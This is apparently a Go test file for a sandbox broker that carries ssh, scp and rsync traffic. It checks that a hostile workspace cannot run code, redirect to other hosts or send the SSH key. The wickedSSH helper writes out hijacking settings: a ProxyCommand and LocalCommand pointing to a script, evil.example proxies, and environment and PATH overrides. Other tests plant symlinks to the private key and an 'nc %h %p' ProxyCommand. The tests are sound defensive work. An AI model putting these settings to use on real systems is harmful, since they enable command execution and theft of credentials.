package broker_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/box/relay"
	"github.com/tidemark/tidemark/internal/test/boxtest"
	"github.com/tidemark/tidemark/internal/warrant/outgoing"
)

// far is an office whose others are one computer with a real sshd, at a private address.
type far struct {
	*office
	there string // a folder over there
	at    string // where its sshd listens
}

const farHost = "web.acme.example"

func newFar(t *testing.T) *far {
	t.Helper()
	boxtest.Needs(t, "ssh", "scp", "rsync", "ssh-keygen")
	sshd := "/usr/sbin/sshd"
	if _, err := os.Stat(sshd); err != nil {
		t.Skip("there is no sshd here")
	}
	known, err := os.ReadFile("/etc/passwd") // os/user would take the environment's word for whoever asks
	if err != nil || !strings.Contains(string(known), ":"+strconv.Itoa(os.Getuid())+":") {
		t.Skip("ssh serves nobody whom the system does not know")
	}
	o := &far{office: &office{World: boxtest.New(t), t: t}}
	o.there = filepath.Join(o.Dir, "there")
	key := filepath.Join(o.Home, ".ssh/id_ed25519")
	o.Must("mkdir -p " + o.there + " ~/.ssh && chmod 700 ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f " + key + " && ssh-keygen -q -t ed25519 -N '' -f " + o.Dir + "/host")
	if os.Getuid() == 0 {
		if err := os.MkdirAll("/run/sshd", 0o755); err != nil {
			t.Skip(err)
		}
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o.at = l.Addr().String()
	_, port, _ := net.SplitHostPort(o.at)
	_ = l.Close()
	o.Put(filepath.Join(o.Dir, "sshd_config"), strings.Join([]string{
		"ListenAddress 127.0.0.1:" + port, "HostKey " + o.Dir + "/host", "AuthorizedKeysFile " + key + ".pub", "StrictModes no", "UsePAM no", "PermitRootLogin yes", "PidFile none", "Subsystem sftp internal-sftp", ""}, "\n"))
	cmd := exec.Command(sshd, "-D", "-e", "-f", filepath.Join(o.Dir, "sshd_config"))
	if err := cmd.Start(); err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	for range 100 {
		if c, err := net.Dial("tcp", o.at); err == nil {
			_ = c.Close()
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	public, err := os.ReadFile(o.Dir + "/host.pub")
	if err != nil {
		t.Fatal(err)
	}
	o.Put(filepath.Join(o.Home, ".ssh/known_hosts"), farHost+" "+string(public))
	o.opts = relay.Options{
		Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.names = append(o.names, name)
			return []netip.Addr{netip.MustParseAddr("10.7.0.9")}, nil
		},
		Dial: func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp", o.at)
		},
	}
	return o
}

func (o *far) asked() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Join(o.names, " ")
}

// wickedSSH makes the workspace one whose every file for ssh and rsync runs something, leads elsewhere or sends the key.
func (o *far) wickedSSH() {
	x := filepath.Join(o.Work, "x.sh")
	for _, name := range []string{"x.sh", "bin/ssh", "bin/scp", "bin/rsync", "bin/sh", "bin/cp"} {
		o.evil(name)
	}
	o.Put(filepath.Join(o.Work, ".ssh/config"), "Host *\n\tProxyCommand "+x+"\n\tPermitLocalCommand yes\n\tLocalCommand "+x+"\n\tHostName evil.example\n")
	o.Put(filepath.Join(o.Work, ".rsync-filter"), ": "+x+"\n")
	o.Env = append(o.Env, "RSYNC_RSH="+x, "RSYNC_CONNECT_PROG="+x, "RSYNC_PROXY=evil.example:80", "SSH_AUTH_SOCK="+o.Work+"/agent", "SSH_ASKPASS="+x, "SSH_ASKPASS_REQUIRE=force", "BASH_ENV="+x, "GIT_SSH_COMMAND="+x, "ENV="+x)
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + o.Work + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
	o.want.Env = o.Env
}

func (o *far) does(line string) (broker.Question, string) {
	o.t.Helper()
	d, err := o.prepare(line)
	if err != nil {
		o.t.Fatalf("%s: %v", line, err)
	}
	code, out, err := o.run(d)
	if code != 0 || err != nil {
		o.t.Fatalf("%s: %d %v\n%s", line, code, err, out)
	}
	return d.Question, out
}

// BOX-02: a command is run over there by ssh, files go and come, and nothing of a hostile workspace runs or is sent besides.
func TestOrdersAndFilesForAnotherComputer(t *testing.T) {
	o := newFar(t)
	o.broker() // opens the session's box while the workspace is harmless
	o.wickedSSH()
	me, err := user.Current()
	if err != nil {
		t.Fatal(err)
	}
	q, out := o.does("ssh " + me.Username + "@" + farHost + " 'echo $SSH_CONNECTION; echo hi from there; env'")
	if q.Verb != "order" || q.Host != farHost || q.Port != 22 || q.Place != me.Username+"@"+farHost || !strings.Contains(out, "hi from there") || strings.Contains(out, "evil") || strings.Contains(out, "SSH_AUTH_SOCK") {
		t.Errorf("%+v\n%s", q, out)
	}
	o.Put(filepath.Join(o.Work, "dist/a/one.txt"), "one\n")
	q, _ = o.does("rsync -a dist/ " + farHost + ":" + o.there + "/www")
	if text, err := os.ReadFile(o.there + "/www/a/one.txt"); string(text) != "one\n" || len(q.Files) != 1 || q.Files[0].Path != "dist/a/one.txt" || q.Verb != "carry" {
		t.Errorf("rsync: %q %v %+v", text, err, q)
	}
	if q, _ = o.does("scp -q a.txt " + farHost + ":" + o.there + "/b.txt"); q.Verb != "carry" {
		t.Errorf("%+v", q)
	}
	o.does("scp " + farHost + ":" + o.there + "/b.txt c.txt")
	o.does("scp " + farHost + ":" + o.there + "/b.txt .")
	o.does("rsync -a " + farHost + ":" + o.there + "/www got")
	for path, want := range map[string]string{"c.txt": "a\n", "b.txt": "a\n", "got/www/a/one.txt": "one\n"} {
		if text, err := os.ReadFile(filepath.Join(o.Work, path)); string(text) != want {
			t.Errorf("%s: %q %v", path, text, err)
		}
	}
	for _, name := range strings.Fields(o.asked()) {
		if name != farHost {
			t.Errorf("the name %s was asked outside", name)
		}
	}
	entries, _ := os.ReadDir(o.there)
	if len(entries) != 2 {
		t.Errorf("over there: %v", entries)
	}
}

// What is a link may lead to the key, what has changed was not asked about, and what leads elsewhere is not the one computer.
func TestWhatIsNotDoneOverThere(t *testing.T) {
	o := newFar(t)
	o.Must("ln -s ~/.ssh/id_ed25519 key.txt; mkdir -p d sub && ln -s ~/.ssh/id_ed25519 d/key && ln -s ~/.ssh keys && echo x > sub/f")
	o.Put(filepath.Join(o.Home, ".ssh/config"), "Host jump\n\tProxyJump other\nHost prog\n\tProxyCommand nc %h %p\nHost rem\n\tRemoteCommand id\nHost short\n\tHostName "+farHost+"\n")
	for _, line := range []string{
		"scp key.txt web.acme.example:x", "scp -r d web.acme.example:x", "rsync -a d web.acme.example:x", "rsync -a keys/ web.acme.example:x", "scp a.txt web.acme.example:-oProxyCommand",
		"ssh jump id", "ssh prog id", "ssh rem id", "ssh web.acme.example ls -q", "scp none.txt web.acme.example:x",
	} {
		if f, ok := outgoing.Plain(line); !ok || !f.Brokered {
			t.Errorf("%s is no form for the broker", line)
			continue
		}
		if d, err := o.prepare(line); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%s: %v %+v", line, err, d)
		}
	}
	if q, out := o.does("ssh short 'echo hi'"); q.Host != farHost || !strings.Contains(out, "hi") {
		t.Errorf("%+v %s", q, out)
	}
	changed := map[string]func(){
		"it says something else": func() { o.Put(filepath.Join(o.Work, "sub/f"), "y\n") },
		"there is one more":      func() { o.Put(filepath.Join(o.Work, "sub/g"), "y\n") },
		"it is a link":           func() { o.Must("rm sub/f && ln -s ~/.ssh/id_ed25519 sub/f") },
	}
	for name, change := range changed {
		o.Must("rm -rf sub && mkdir sub && echo x > sub/f")
		d, err := o.prepare("rsync -a sub " + farHost + ":" + o.there)
		if err != nil {
			t.Fatal(err)
		}
		change()
		if code, out, err := o.run(d); err == nil && code == 0 {
			t.Errorf("%s: it was sent: %s", name, out)
		}
	}
	if entries, _ := os.ReadDir(o.there); len(entries) > 0 {
		t.Errorf("over there: %v", entries)
	}
	before := o.asked()
	for _, host := range []string{"stranger.acme.example", "moved.acme.example"} {
		key := strings.Fields(o.Must("cat " + o.Home + "/.ssh/id_ed25519.pub"))[1]
		o.Put(filepath.Join(o.Home, ".ssh/known_hosts"), "moved.acme.example ssh-ed25519 "+key+"\n")
		d, err := o.prepare("ssh " + host + " 'touch " + o.there + "/x'")
		if err != nil {
			t.Fatal(err)
		}
		if code, out, err := o.run(d); code == 0 && err == nil {
			t.Errorf("%s, whose key is not the one that was noted: %s", host, out)
		}
	}
	if got := strings.Fields(o.asked()[len(before):]); len(got) == 0 || strings.Contains(fmt.Sprint(got), "evil") {
		t.Errorf("names: %v", got)
	}
	if _, err := os.Stat(o.there + "/x"); err == nil {
		t.Error("a stranger was obeyed")
	}
}
